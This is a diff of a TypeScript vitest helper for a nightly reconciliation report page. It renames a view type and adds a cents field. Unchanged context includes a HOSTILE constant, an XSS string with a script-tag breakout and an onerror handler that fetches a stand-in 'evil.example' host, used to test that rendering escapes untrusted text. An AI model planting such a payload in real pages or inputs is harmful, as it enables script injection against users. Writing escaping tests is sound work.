@@ -5,13 +5,13 @@
 import { readFileSync } from 'node:fs';
 import { expect } from 'vitest';
 import type { RunSummary } from '../../src/app/night.js';
-import type { NightView } from '../../src/report/night-view.js';
+import type { NightAtAGlance } from '../../src/report/night-view.js';
 
 /** A page's tables by caption: each row's cells as text, tags stripped and entities read. */
 export interface ReadPage {
   html: string;
   heading: string;
-  view: NightView;
+  view: NightAtAGlance;
   tables: Map<string, string[][]>;
 }
 
@@ -105,7 +105,7 @@ export function expectPageOfRecord(path: string, record: RunSummary, nightsOnRec
 export const HOSTILE = `</script><script>alert(1)</script><img src=x onerror="fetch('https://evil.example')">&amp;`;
 
 /** A night's view whose every text from outside is hostile: two nights, one overdue break, a waterfall. */
-export const HOSTILE_VIEW: NightView = {
+export const HOSTILE_VIEW: NightAtAGlance = {
   title: `${HOSTILE} — 2026-11-18 09:30 UTC — BREAKS, run 2`,
   merchant: HOSTILE,
   merchantId: 'm-1',
@@ -125,6 +125,7 @@ export const HOSTILE_VIEW: NightView = {
       about: `card ${HOSTILE}`,
       currency: 'USD',
       atStake: '12.00',
+      stakeCents: 1200,
       firstSeenAt: '2026-11-14T09:30:00.000Z',
       dueAt: '2026-11-17T09:30:00.000Z',
     },
